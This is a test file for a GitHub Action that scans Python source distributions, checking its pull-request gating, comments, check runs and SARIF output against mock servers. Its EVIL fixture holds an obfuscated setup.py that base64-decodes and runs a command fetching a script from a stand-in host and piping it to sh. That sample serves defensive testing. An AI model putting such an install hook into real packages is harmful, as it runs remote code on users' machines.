// The action on pull requests and in audits, run as the runner runs it (see helpers/action-runner.ts),
// against a real index on 127.0.0.1 and a real HTTP server on 127.0.0.1 standing in for the GitHub
// REST API at GITHUB_API_URL, which records the comments and check runs the action writes.

import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { startIndexServer } from './helpers/index-server.js';
import { makeSdist, makeWheel } from './helpers/archives.js';
import { makeProject } from './helpers/project.js';
import { annotationsOf, startGitHubApi, type GitHubApi } from './helpers/github-api.js';
import { actionRunner } from './helpers/action-runner.js';
import { tables } from './helpers/gfm.js';
import { COMMENT_MARKER } from '../src/report/comment.js';

const EVIL = `
import os, subprocess, base64
from setuptools import setup
cmd = base64.b64decode("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IHNo").decode()
subprocess.Popen(cmd, shell=True)
setup(name="evil", version="1.0")
`;
const MERGE_SHA = 'f'.repeat(40);

function git(dir: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'user.name=Test', '-c', 'user.email=test@example.invalid', '-c', 'commit.gpgsign=false', '-c', 'init.defaultBranch=main', ...args], {
    cwd: dir,
    encoding: 'utf8',
  }).trim();
}

/** A checkout with history: the base commit, then the pull request's head on top. */
function checkout(base: Record<string, string>, head: Record<string, string>) {
  const project = makeProject(base);
  git(project.dir, 'init', '-q');
  git(project.dir, 'add', '-A');
  git(project.dir, 'commit', '-q', '-m', 'base');
  const baseSha = git(project.dir, 'rev-parse', 'HEAD');
  for (const [path, text] of Object.entries(head)) writeFileSync(join(project.dir, path), text);
  git(project.dir, 'add', '-A');
  git(project.dir, 'commit', '-q', '-m', 'head');
  return { ...project, baseSha, headSha: git(project.dir, 'rev-parse', 'HEAD') };
}

const prEvent = (baseSha: string, headSha: string) => ({ pull_request: { number: 7, base: { sha: baseSha }, head: { sha: headSha } }, repository: { full_name: 'octo/app' } });

describe('the action on pull requests and audits', () => {
  let index: Awaited<ReturnType<typeof startIndexServer>>;
  let api: GitHubApi;
  const runner = actionRunner();
  const prEnv = () => ({
    GITHUB_EVENT_NAME: 'pull_request',
    GITHUB_REPOSITORY: 'octo/app',
    GITHUB_API_URL: api.url,
    GITHUB_RUN_ID: '42',
    GITHUB_SERVER_URL: 'https://github.test',
    GITHUB_SHA: MERGE_SHA,
  });
  const inputs = (extra: Record<string, string> = {}) => ({ 'index-url': index.indexUrl, 'github-token': 'test-token', ...extra });
  const requests = (method: string, part: string) => api.requests.filter((r) => r.method === method && r.path.includes(part));

  beforeAll(async () => {
    index = await startIndexServer({
      projects: {
        good: [makeWheel('good', '1.0')],
        built: [makeSdist('built', '2.0')],
        evil: [makeSdist('evil', '1.0', { 'setup.py': EVIL })],
      },
    });
  });
  afterAll(async () => {
    await index.close();
    runner.cleanup();
  });
  afterEach(async () => {
    await api?.close();
  });

  it('gates only on what the pull request adds or changes, lists the rest as pre-existing, and comments once', async () => {
    api = await startGitHubApi();
    const repo = checkout({ 'requirements.txt': 'good==1.0\nevil==1.0\n' }, { 'requirements.txt': 'good==1.0\nevil==1.0\nmissing-new==1.0\nbuilt\n' });
    try {
      const r = await runner.runAction(inputs(), repo.dir, prEnv(), prEvent(repo.baseSha, repo.headSha));
      expect(r.exitCode).toBe(1);
      expect(r.stdout).toMatch(/::error::sdist-guard failed the gate: 1 unresolved \(fail-on: malicious,suspicious,unresolved\); not gating: 1 pre-existing/);
      expect(r.stdout).toMatch(/::error title=sdist-guard%3A missing-new is unresolved,file=requirements\.txt,line=3::/);
      expect(r.stdout).toMatch(/::warning title=sdist-guard%3A evil 1\.0 is suspicious \(pre-existing\),file=requirements\.txt,line=2::/);
      expect(r.stdout).not.toMatch(/::error title=sdist-guard%3A evil/);
      expect(r.outputs).toMatchObject({ status: 'fail', scope: 'changed', 'suspicious-count': '1', 'unresolved-count': '1', 'sdist-count': '1' });
      expect(r.summary).toMatch(/Scope: only dependencies this change adds or alters gate \(compared with the base commit [0-9a-f]{7} \(git\)\); 1 pre-existing one is listed/);
      expect(r.summary).toMatch(/\| 🛑 suspicious<br>pre-existing \| evil \| 1\.0 \|/);
      const report = JSON.parse(readFileSync(r.outputs.report, 'utf8'));
      expect(report.dependencies.find((d: { name: string }) => d.name === 'evil').preexisting).toBe(true);
      expect(report.scope).toMatchObject({ requested: 'changed', applied: 'changed' });
      // the base came from git: no contents API calls
      expect(requests('GET', '/contents/')).toHaveLength(0);

      const comments = api.comments.get(7)!;
      expect(comments).toHaveLength(1);
      const body = comments[0].body;
      expect(body.startsWith(COMMENT_MARKER)).toBe(true);
      expect(body).toMatch(/## sdist-guard: ❌ 1 dependency this pull request adds or changes fails the gate/);
      const [changedPart, prePart] = body.split('pre-existing dependency');
      expect(changedPart).toMatch(/\| ⚠️ unresolved \| missing-new \|/);
      expect(changedPart).toMatch(/\| 📦 sdist \| built \| 2\.0 \|/);
      expect(changedPart).not.toMatch(/\| evil \|/);
      expect(prePart).toMatch(/\| evil \| 1\.0 \|/);
      expect(body).toMatch(/<sub>sdist-guard .* · commit [0-9a-f]{7} · \[workflow run\]\(https:\/\/github\.test\/octo\/app\/actions\/runs\/42\)<\/sub>/);
      expect(r.outputs['comment-url']).toBe(comments[0].html_url);
    } finally {
      repo.cleanup();
    }
  });

  it('finds its comment on a later page and rewrites it to an all-clear once the problems are gone', async () => {
    const others = Array.from({ length: 150 }, (_, i) => ({ body: `review comment ${i}` }));
    others.splice(120, 0, { body: `${COMMENT_MARKER}\n## sdist-guard: ❌ 1 dependency this pull request adds or changes fails the gate` });
    api = await startGitHubApi({ comments: { 7: others } });
    const repo = checkout({ 'requirements.txt': 'good==1.0\nevil==1.0\n' }, { 'requirements.txt': 'good==1.0\nevil==1.0\nbuilt\n' });
    try {
      const r = await runner.runAction(inputs(), repo.dir, prEnv(), prEvent(repo.baseSha, repo.headSha));
      expect(r.exitCode).toBe(0);
      expect(requests('POST', '/comments')).toHaveLength(0);
      const patches = requests('PATCH', '/issues/comments/');
      expect(patches).toHaveLength(1);
      const comments = api.comments.get(7)!;
      expect(comments).toHaveLength(151);
      const ours = comments.filter((c) => c.body.includes(COMMENT_MARKER));
      expect(ours).toHaveLength(1);
      expect(ours[0].body).toMatch(/## sdist-guard: ✅ all clear/);
      expect(ours[0].body).toMatch(/No dependency this pull request adds or changes fails the gate \(fail-on: malicious,suspicious,unresolved\)\. The job summary still lists 1 pre-existing/);
      expect(requests('GET', '/issues/7/comments').map((q) => q.query.page ?? '1')).toEqual(['1', '2']);
    } finally {
      repo.cleanup();
    }
  });

  it('says nothing on a passing pull request that has no comment yet, unless asked to always comment', async () => {
    api = await startGitHubApi();
    const repo = checkout({ 'requirements.txt': 'good==1.0\n' }, { 'requirements.txt': 'good==1.0\nbuilt\n' });
    try {
      const quiet = await runner.runAction(inputs(), repo.dir, prEnv(), prEvent(repo.baseSha, repo.headSha));
      expect(quiet.exitCode).toBe(0);
      expect(api.comments.get(7)).toBeUndefined();
      const always = await runner.runAction(inputs({ comment: 'always' }), repo.dir, prEnv(), prEvent(repo.baseSha, repo.headSha));
      expect(always.exitCode).toBe(0);
      expect(api.comments.get(7)).toHaveLength(1);
      expect(api.comments.get(7)![0].body).toMatch(/## sdist-guard: ✅ passed[\s\S]*\| 📦 sdist \| built \|/);
      api.requests.length = 0;
      await runner.runAction(inputs({ comment: 'never' }), repo.dir, prEnv(), prEvent(repo.baseSha, repo.headSha));
      expect(api.requests).toHaveLength(0);
    } finally {
      repo.cleanup();
    }
  });

  it('reads the base through the contents API when the checkout does not have it', async () => {
    const baseSha = 'b'.repeat(40);
    api = await startGitHubApi({ files: { [baseSha]: { 'requirements.txt': 'evil==1.0\n' } } });
    const project = makeProject({ 'requirements.txt': 'evil==1.0\ngood==1.0\n' });
    try {
      const r = await runner.runAction(inputs(), project.dir, prEnv(), prEvent(baseSha, 'c'.repeat(40)));
      expect(r.exitCode).toBe(0);
      expect(r.outputs.scope).toBe('changed');
      expect(r.stdout).toMatch(/gating on what the change adds or alters, compared with the base commit bbbbbbb \(GitHub API\)/);
      const contents = requests('GET', '/contents/');
      expect(contents.map((q) => [q.path, q.query.ref])).toEqual([['/repos/octo/app/contents/requirements.txt', baseSha]]);
    } finally {
      project.cleanup();
    }
  });

  it('gates on everything, with a warning that says why, when the base cannot be read', async () => {
    api = await startGitHubApi({ contentsStatus: 500 });
    const project = makeProject({ 'requirements.txt': 'evil==1.0\n' });
    try {
      const r = await runner.runAction(inputs(), project.dir, prEnv(), prEvent('b'.repeat(40), 'c'.repeat(40)));
      expect(r.exitCode).toBe(1);
      expect(r.outputs.scope).toBe('all');
      expect(r.stdout).toMatch(/::warning::sdist-guard: cannot read the manifests at the base commit bbbbbbb \(GitHub API\) \(GitHub contents API, requirements\.txt at bbbbbbb: HTTP 500.*\), so every dependency gates, as with scope: all/);
      expect(r.stdout).toMatch(/::error title=sdist-guard%3A evil 1\.0 is suspicious,file=requirements\.txt,line=1::/);
    } finally {
      project.cleanup();
    }
  });

  it('turns a 403 on the comment into a warning naming pull-requests: write, never a failure', async () => {
    api = await startGitHubApi({ forbid: { createComment: true } });
    const repo = checkout({ 'requirements.txt': 'good==1.0\n' }, { 'requirements.txt': 'good==1.0\nbuilt\n' });
    try {
      const r = await runner.runAction(inputs({ comment: 'always' }), repo.dir, prEnv(), prEvent(repo.baseSha, repo.headSha));
      expect(r.exitCode).toBe(0);
      expect(r.outputs.status).toBe('pass');
      expect(r.stdout).toMatch(
        /::warning::sdist-guard could not write the pull request comment \(HTTP 403: Resource not accessible by integration\): the token lacks the `pull-requests: write` permission \(pull requests from forks always get a read-only token\)/,
      );
      expect(api.comments.get(7)).toBeUndefined();
    } finally {
      repo.cleanup();
    }
  });

  it('publishes every annotation on a check run, 50 per request, when there are more than a step shows', async () => {
    api = await startGitHubApi();
    const added = Array.from({ length: 60 }, (_, i) => `missing-${i}==1.0`).join('\n') + '\n';
    const repo = checkout({ 'requirements.txt': 'good==1.0\n' }, { 'requirements.txt': `good==1.0\n${added}` });
    try {
      const r = await runner.runAction(inputs(), repo.dir, prEnv(), prEvent(repo.baseSha, repo.headSha));
      expect(r.exitCode).toBe(1);
      expect(api.checkRuns).toHaveLength(1);
      const check = api.checkRuns[0];
      expect(check).toMatchObject({ name: 'sdist-guard', head_sha: repo.headSha, status: 'completed', conclusion: 'failure' });
      expect(check.annotationBatches.map((b) => b.length)).toEqual([50, 10]);
      const lines = annotationsOf(check).map((a) => a.start_line).sort((a, b) => a - b);
      expect(lines).toEqual(Array.from({ length: 60 }, (_, i) => i + 2));
      expect(annotationsOf(check).every((a) => a.path === 'requirements.txt' && a.annotation_level === 'failure')).toBe(true);
      // the check run carries them, so the step does not repeat ten of them
      expect(r.stdout).not.toMatch(/^::error title=/m);
      expect(r.summary).toMatch(/All 60 annotations are on \[the sdist-guard check run\]\(https:\/\/github\.test\/octo\/app\/runs\/\d+\)/);
    } finally {
      repo.cleanup();
    }
  });

  it('keeps the step annotations and says more exist when the token may not write checks', async () => {
    api = await startGitHubApi({ forbid: { checks: true } });
    const added = Array.from({ length: 13 }, (_, i) => `missing-${i}==1.0`).join('\n') + '\n';
    const repo = checkout({ 'requirements.txt': 'good==1.0\n' }, { 'requirements.txt': `good==1.0\n${added}` });
    try {
      const r = await runner.runAction(inputs(), repo.dir, prEnv(), prEvent(repo.baseSha, repo.headSha));
      expect(r.exitCode).toBe(1);
      expect(r.stdout.match(/^::error title=/gm)).toHaveLength(10);
      expect(r.stdout).toMatch(/::warning::sdist-guard could not publish a check run with every annotation \(HTTP 403: .*\): the token lacks the `checks: write` permission/);
      expect(r.summary).toMatch(/3 more are listed above and in the JSON report\. Give the job the `checks: write` permission/);
    } finally {
      repo.cleanup();
    }
  });

  it.each(['push', 'schedule', 'workflow_dispatch'])('audits everything on %s: no comment, SARIF written', async (eventName) => {
    api = await startGitHubApi();
    const project = makeProject({ 'requirements.txt': 'evil==1.0\nbuilt\n' });
    try {
      const r = await runner.runAction(
        inputs({ 'sarif-file': 'reports/sdist-guard.sarif' }),
        project.dir,
        { ...prEnv(), GITHUB_EVENT_NAME: eventName },
        { ref: 'refs/heads/main', repository: { full_name: 'octo/app' } },
      );
      expect(r.exitCode).toBe(1);
      expect(r.outputs.scope).toBe('all');
      expect(api.requests).toHaveLength(0);
      const sarifPath = join(project.dir, 'reports/sdist-guard.sarif');
      expect(r.outputs['sarif-file']).toBe(sarifPath);
      expect(existsSync(sarifPath)).toBe(true);
      const sarif = JSON.parse(readFileSync(sarifPath, 'utf8'));
      expect(sarif.version).toBe('2.1.0');
      expect(sarif.runs[0].results.map((x: { properties: { package: string } }) => x.properties.package)).toEqual(expect.arrayContaining(['evil', 'built']));
    } finally {
      project.cleanup();
    }
  });

  it('takes settings and the allow list from sdist-guard.toml, inputs overriding it', async () => {
    api = await startGitHubApi();
    const project = makeProject({
      'requirements.txt': 'evil==1.0\nbuilt\n',
      'sdist-guard.toml': `index-url = "${index.indexUrl}"\nfail-on = "sdist"\n\n[[allow]]\npackage = "evil"\nreason = "reviewed fork"\nuntil = 2999-12-31\n`,
    });
    try {
      const fromFile = await runner.runAction({}, project.dir, { GITHUB_EVENT_NAME: 'push' });
      expect(fromFile.exitCode).toBe(1);
      expect(fromFile.stdout).toMatch(/sdist-guard: configuration from sdist-guard\.toml/);
      expect(fromFile.stdout).toMatch(/::error::sdist-guard failed the gate: 1 sdist \(fail-on: sdist\)/);
      expect(tables(fromFile.summary).flatMap((t) => t.slice(1)).find((row) => row[1] === 'evil')?.slice(0, 5)).toEqual([
        '🛑 suspicious allowed',
        'evil',
        '1.0',
        'requirements.txt:1',
        expect.stringMatching(/^Allowed \(sdist-guard\.toml:4, until 2999-12-31\): reviewed fork evil-1\.0\.tar\.gz runs suspicious code/),
      ]);
      const overridden = await runner.runAction({ 'fail-on': 'suspicious' }, project.dir, { GITHUB_EVENT_NAME: 'push' });
      expect(overridden.exitCode).toBe(0);
    } finally {
      project.cleanup();
    }
  });

  it('stops with a configuration error naming an unknown key and its file, or a bad scope or comment input', async () => {
    api = await startGitHubApi();
    const project = makeProject({ 'requirements.txt': 'good==1.0\n', 'sdist-guard.toml': 'fail-on = "none"\nscope = "changed"\n' });
    try {
      const r = await runner.runAction(inputs(), project.dir, { GITHUB_EVENT_NAME: 'push' });
      expect(r.exitCode).toBe(1);
      expect(r.stdout).toMatch(/::error::sdist-guard: configuration error: sdist-guard\.toml:2: unknown key "scope"/);
      writeFileSync(join(project.dir, 'sdist-guard.toml'), '');
      expect((await runner.runAction(inputs({ scope: 'some' }), project.dir, { GITHUB_EVENT_NAME: 'push' })).stdout).toMatch(
        /configuration error: scope: "some" is not a scope: expected changed or all/,
      );
      expect((await runner.runAction(inputs({ comment: 'sometimes' }), project.dir, { GITHUB_EVENT_NAME: 'push' })).stdout).toMatch(
        /configuration error: comment: "sometimes" is not a mode: expected on-failure, always, never/,
      );
    } finally {
      project.cleanup();
    }
  });
});
